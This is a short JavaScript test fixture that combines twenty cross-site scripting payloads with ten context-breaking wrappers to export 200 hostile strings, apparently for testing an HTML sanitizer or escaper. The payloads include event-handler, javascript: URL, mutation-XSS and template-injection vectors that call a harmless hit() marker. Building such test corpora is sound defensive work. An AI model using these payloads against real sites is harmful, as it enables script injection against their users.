// Two hundred texts that would run a script, or break a page, if they were ever taken for markup.

const scripts = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<form><button formaction=javascript:hit()>x",
    "<video><source onerror=hit()>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>",
    "<style>@import 'javascript:hit()'</style>",
    "<link rel=stylesheet href=javascript:hit()>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=javascript:hit()//>",
];

const wrappers = [
    (text) => text,
    (text) => `"${text}`,
    (text) => `'>${text}`,
    (text) => `">${text}`,
    (text) => `</textarea>${text}`,
    (text) => `</title></style></script>${text}`,
    (text) => `--><!--${text}`,
    (text) => `]]>${text}`,
    (text) => `${text}{{constructor.constructor('hit()')()}}`,
    (text) => `\u202e${text}\u0000\u200b`.replaceAll("\u0000", "\ufffd"),
];

export const hostile_strings = scripts.flatMap((script) => wrappers.map((wrap) => wrap(script)));
